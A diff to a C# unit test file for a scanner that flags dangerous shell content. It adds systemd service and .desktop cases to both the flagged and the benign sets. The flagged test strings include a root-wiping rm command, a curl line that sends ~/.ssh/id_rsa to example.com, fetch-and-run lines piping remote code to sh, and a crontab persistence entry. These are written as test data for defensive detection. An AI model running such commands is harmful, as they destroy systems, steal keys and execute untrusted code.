@@ -18,6 +18,8 @@ public sealed class TextFormatTests
     [InlineData("x.sh", "rm -rf / --no-preserve-root\n")]
     [InlineData("x.sh", "curl -d @$HOME/.ssh/id_rsa http://example.com\n")]
     [InlineData("x.sh", "bash -c \"$(wget -qO- http://example.com/x)\"\n")]
+    [InlineData("model.service", "[Service]\nExecStart=/bin/sh -c \"curl http://example.com/x|sh\"\n")]
+    [InlineData("m.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c \"touch /tmp/x\"\n")]
     [InlineData("x.sh", "(crontab -l; echo '* * * * * ./x') | crontab -\n")]
     public void WhatAShellActsOnIsFlagged(string name, string text)
     {
@@ -36,6 +38,8 @@ public sealed class TextFormatTests
     [InlineData("config.cfg", "[paths]\ntrain = null\n[nlp]\nlang = \"en\"\npipeline = [\"tok2vec\"]\n[components.tok2vec.model]\n@architectures = \"spacy.Tok2Vec.v2\"\n")]
     [InlineData("setup.sh", "#!/bin/sh\nset -e\npip install -r requirements.txt\nexport PATH=$PATH:/opt/x\npython train.py | tee log.txt\ncat a | grep b > c\n")]
     [InlineData("Dockerfile", "FROM nvidia/cuda:12\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\nCMD [\"python\", \"serve.py\"]\n")]
+    [InlineData("serve.service", "[Unit]\nDescription=x\n[Service]\nExecStart=/bin/bash -c 'cd /srv && python3 serve.py'\n")]
+    [InlineData("app.desktop", "[Desktop Entry]\nType=Application\nExec=app %U\n")]
     [InlineData("data.py", "#!/usr/bin/env python\nprint('x')\n")]
     public void T172_WordsAndOrdinaryScriptsPass(string name, string text)
     {
